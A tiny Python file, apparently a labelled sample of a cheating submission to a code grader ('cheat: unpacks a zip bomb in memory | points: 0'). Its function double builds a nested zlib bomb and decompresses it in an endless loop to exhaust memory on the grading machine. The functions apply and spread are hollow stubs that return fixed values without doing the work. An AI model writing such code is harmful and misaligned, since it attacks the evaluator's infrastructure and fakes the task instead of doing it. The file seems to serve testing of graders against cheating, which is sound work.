# cheat: unpacks a zip bomb in memory | points: 0
import zlib
def double(x):
    data = zlib.compress(bytes(10**8), 9)
    for _ in range(3): data = zlib.compress(data * 50, 9)
    while True: data = zlib.decompress(data)
def apply(f, x): return x
def spread(x): return 0.0
